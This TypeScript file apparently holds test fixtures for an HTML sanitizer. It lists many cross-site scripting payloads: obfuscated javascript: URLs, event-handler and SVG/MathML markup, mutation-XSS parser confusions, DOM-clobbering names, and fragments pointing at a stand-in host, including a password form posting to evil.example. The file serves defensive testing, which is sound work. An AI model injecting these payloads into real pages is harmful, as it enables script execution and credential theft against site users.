/** URLs that a page must never link to, in spellings that browsers accept. */
const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)',
  '\u0001javascript:alert(1)', 'javascript\t:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;script:alert(1)', '&#0000106avascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript://%0aalert(1)',
  'vbscript:msgbox(1)', 'livescript:x', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'DATA:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/x', 'file:///etc/passwd', 'ftp://evil.example/x', 'ws://evil.example', 'view-source:https://evil.example', 'jar:https://evil.example!/x',
  'about:blank', 'filesystem:https://evil.example/x', 'intent://evil#Intent;end', 'weixin://dl/chat', 'feed:javascript:alert(1)', 'https://user:secret@evil.example/',
  'https://yinqiao.example@evil.example/', '/.//evil.example', '/x/..//evil.example', '//', 'https://', 'http://[bad', '',
];

/** Markup that runs scripts, embeds frames, posts forms or changes styles. */
const markup = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</script>', '<script/x>alert(1)</script>', '<script\n>alert(1)</script >',
  '<script>alert(1)', '<script src="data:,alert(1)">', '<svg><script>alert(1)</script></svg>', '<svg/onload=alert(1)>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<math href="javascript:alert(1)">x</math>',
  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe onload=alert(1)>', '<frameset onload=alert(1)><frame src=x></frameset>',
  '<object data=javascript:alert(1)></object>', '<object type=text/html data=//evil.example></object>', '<embed src=javascript:alert(1)>', '<applet code=x></applet>', '<portal src=//evil.example></portal>',
  '<form action=//evil.example><input name=password><button>登录</button></form>', '<input onfocus=alert(1) autofocus>', '<button onclick=alert(1)>点</button>', '<button formaction=javascript:alert(1)>点</button>',
  '<select onfocus=alert(1) autofocus><option>1</select>', '<textarea onfocus=alert(1) autofocus>', '<keygen autofocus onfocus=alert(1)>', '<isindex action=javascript:alert(1) type=image>',
  '<textarea><img src=x onerror=alert(1)></textarea>', '<title><img src=x onerror=alert(1)></title>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<noembed><img src=x onerror=alert(1)></noembed>', '<noframes><img src=x onerror=alert(1)></noframes>',
  '<template><script>alert(1)</script></template>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<slot onslotchange=alert(1)>x</slot>', '<x-card onclick=alert(1)>x</x-card>',
  '<style>*{display:none}</style>', '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<meta charset=utf-7>', '<base href=//evil.example/>', '<base target=_top>', '<html manifest=//evil.example><body onload=alert(1)>x</body></html>',
  '<head><script>alert(1)</script></head>', '<body background=javascript:alert(1)>x', '<bgsound src=javascript:alert(1)>', '<layer src=//evil.example></layer>',
  '<video onerror=alert(1)><source src=x></video>', '<video poster=javascript:alert(1)></video>', '<audio src=x onerror=alert(1)></audio>', '<picture><source srcset="x" onerror=alert(1)></picture>', '<track default oncuechange=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>', '<dialog open onclose=alert(1)>x</dialog>', '<marquee onstart=alert(1)>x</marquee>', '<blink onclick=alert(1)>x</blink>', '<menu onclick=alert(1)><menuitem>x</menu>',
  '<!-- <img src=x onerror=alert(1)> -->', '<!--><img src=x onerror=alert(1)>', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html><img src=x onerror=alert(1)>', '<<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)//', '<img src=x onerror=alert(1)', '</p><img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<img """><script>alert(1)</script>">', '<img src=x onerror="&#97;lert(1)">', '<img\u000csrc=x\u000conerror=alert(1)>',
  '<p onclick=alert(1)>x</p>', '<p ONMOUSEOVER=alert(1)>x</p>', '<p style="position:fixed;inset:0">x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<p class="btn primary">x</p>', '<p id="app">x</p>',
  '<p contenteditable onfocus=alert(1)>x</p>', '<p tabindex=1 onfocus=alert(1)>x</p>', '<p is="x-card">x</p>', '<p dir=rtl hidden popover>x</p>', '<p data-testid=x aria-label=y role=button>x</p>',
  '<h2 id="hydration-data" onclick=alert(1)>x</h2>', '<table background=//evil.example/x.png><tr><td background=//evil.example/y.png>x</td></tr></table>', '<td colspan=99999>x</td>', '<th rowspan="-1" scope="javascript:">x</th>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>', '<ol start=javascript:1 reversed type=a><li value=9>x</li></ol>', '<hr onclick=alert(1) width=9999>', '<br clear=all onclick=alert(1)>', '<code onclick=alert(1)>x</code>',
  '<a href="/news" onclick=alert(1)>x</a>', '<a href="/news" target=_self rel=opener>x</a>', '<a href="/news" ping=//evil.example download>x</a>', '<a name=app>x</a>', '<a href="https://evil.example" target=_top rel="opener">x</a>',
  '<a href="/x"><a href="javascript:alert(1)">x</a></a>', '<map><area href=javascript:alert(1) shape=default></map>', '<figure onclick=alert(1)><figcaption onclick=alert(1)>x</figcaption></figure>',
  '</div></div></main><script>alert(1)</script>', '</script><script>alert(1)</script>', ']]></script><img src=x onerror=alert(1)>', '\u2028<script>alert(1)</script>\u2029', '<p>\u202Egnp.exe</p>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<p title="<script>alert(1)</script>">x</p>', '<p title=\'"><img src=x onerror=alert(1)>\'>x</p>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;script&amp;gt;', '<sc\0ript>alert(1)</sc\0ript>', '<script\0>alert(1)</script\0>',
];

/** Markup that parsers read differently, or differently the second time: namespaces, raw text, tables, formatting that is repaired, comments, clobbered names. */
const confusions = [
  '<svg><style><!--</style><img src=x onerror=alert(1)>-->', '<svg><title><style><a title="</style></title><img src=x onerror=alert(1)>">', '<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">', '<svg></br><textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<svg><foreignObject><math><mi><table><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>', '<svg><a><script xlink:href=data:,alert(1)></script></a></svg>', '<svg><image href=x onerror=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<math><annotation-xml encoding="text/html"><style><!--</style><img src=x onerror=alert(1)>-->',
  '<math><mi><![CDATA[<img src=x onerror=alert(1)>]]></mi></math>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', '<math></p><style><!--</style><img src=x onerror=alert(1)>--></math>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>', '<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>', '<style><style/><img src=x onerror=alert(1)>', '<style></style/><img src=x onerror=alert(1)>',
  '<template><style></template><img src=x onerror=alert(1)></style>', '<template><tr><td><svg><template><img src=x onerror=alert(1)>', '<template shadowrootmode=open><img src=x onerror=alert(1)></template>', '<select><template><img src=x onerror=alert(1)></template></select>',
  '<select><style></select><img src=x onerror=alert(1)></style>', '<select><math><mi></select><img src=x onerror=alert(1)>', '<option><style></option></select><img src=x onerror=alert(1)></style>', '<iframe><!--</iframe><img src=x onerror=alert(1)>-->', '<xmp><!--</xmp><img src=x onerror=alert(1)>-->',
  '<title><!--</title><img src=x onerror=alert(1)>-->', '<textarea><!--</textarea><img src=x onerror=alert(1)>-->', '<plaintext></plaintext><img src=x onerror=alert(1)>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!-- foo--!><img src=x onerror=alert(1)>-->', '<!---><img src=x onerror=alert(1)>-->',
  '<!-- --\t><img src=x onerror=alert(1)>', '<?php ><img src=x onerror=alert(1)>', '</ ><img src=x onerror=alert(1)>', '<//><img src=x onerror=alert(1)>', '<a"><img src=x onerror=alert(1)>', '<p/onclick=alert(1)//>x', '<p "onclick=alert(1)>x</p>',
  '<table><a href=/x><tr><td><a href=javascript:alert(1)>x</table>', '<table><caption>x<svg><style></caption><img src=x onerror=alert(1)></table>', '<table><colgroup><col onclick=alert(1)><img src=x onerror=alert(1)></table>', '<table><tr><form><td>x</form><li>y</table>', '<table><style></table><img src=x onerror=alert(1)></style>',
  '<b><p><a href=/x></b><i></p><b>x</a></i><table><b>y</table>', '<a href=/x><p><a href=/y><table><td><a href=/z>x</table></a></p>', '<li><section><li>x<h2>z<h3>y</h2></section></li>', '<dl><dt>x<menu><li>y<dir><li>z</menu></dl>', '<nobr><nobr><table><nobr>x</table><nobr>y', '<ruby>x<rp>(<rt>y<rtc>z</ruby>',
  '<img srcset="//evil.example/x.png 2x" src=/media/a.svg>', '<img src=/media/a.svg usemap=#m longdesc=javascript:alert(1) lowsrc=javascript:alert(1) dynsrc=x>', '<img src=/media/a.svg alt="</p><script>alert(1)</script>">', '<img src=/media/a.svg alt=`><img src=x onerror=alert(1)>`>', '<image src=x onerror=alert(1)>',
  '<a href="/x" xlink:href="javascript:alert(1)" action="javascript:alert(1)" formaction="javascript:alert(1)">x</a>', '<form id=x><input name=attributes><input name=parentNode><input name=nodeName></form>', '<p id=documentElement name=cookie>x</p>', '<a id=x name=y href=/x>x</a><a id=x href=/y>y</a>', '<img name=getElementById src=/media/a.svg>',
  '<p __proto__=x constructor=y tostring=z>x</p>', '<constructor>x</constructor><__proto__>y</__proto__><tostring>z</tostring>', '<a href="javas&#0;cript:alert(1)">x</a>', '<a href="java\0script:alert(1)">x</a>', '<a href=javascript&#x3a//%0aalert(1)>x</a>', '<a href="\u00a0javascript:alert(1)">x</a>', '<a href="/\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>', '<a href="///evil.example">x</a>', '<a href="https://evil.example/"onclick=alert(1)">x</a>', "<a href='/x\"><img src=x onerror=alert(1)>'>x</a>", '<a href="/x', '<a href=/x title="', "<p title='", '<im\0g src=x onerror=alert(1)>', '\0<\0img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;', '&#60;img src=x onerror=alert(1)&#62;',
];

/** Sources of pictures outside this site's `/media`. */
const pictures = [
  'https://evil.example/x.png', '//evil.example/x.png', 'http://evil.example/x.png', 'data:image/svg+xml,<svg onload=alert(1)>', 'javascript:alert(1)', '/bff/user', '/media/../bff/user', '/media/%2e%2e/bff/user',
  '/MEDIA/x.png', 'media/../x.png', '/mediax.png', 'https://evil.example/media/x.png', '\\\\evil.example\\x.png', 'blob:x', 'x', '',
];

const quoted = (address: string) => address.replaceAll('"', '&quot;');

/** All hostile fragments. */
export const hostileHtml: readonly string[] = [
  ...addresses.map((address) => `<a href="${quoted(address)}">看详情</a>`),
  ...pictures.map((address) => `<p>图：<img src="${quoted(address)}" alt="x" onerror="alert(1)"></p>`),
  ...markup,
  ...confusions,
];

/** The same, each also within other elements. */
export const wrappedHostileHtml: readonly string[] = hostileHtml.flatMap((html) => [html, `<p>前${html}后</p>`, `<table><tr><td>${html}</td></tr></table>`, `<a href="/x">${html}</a>`]);
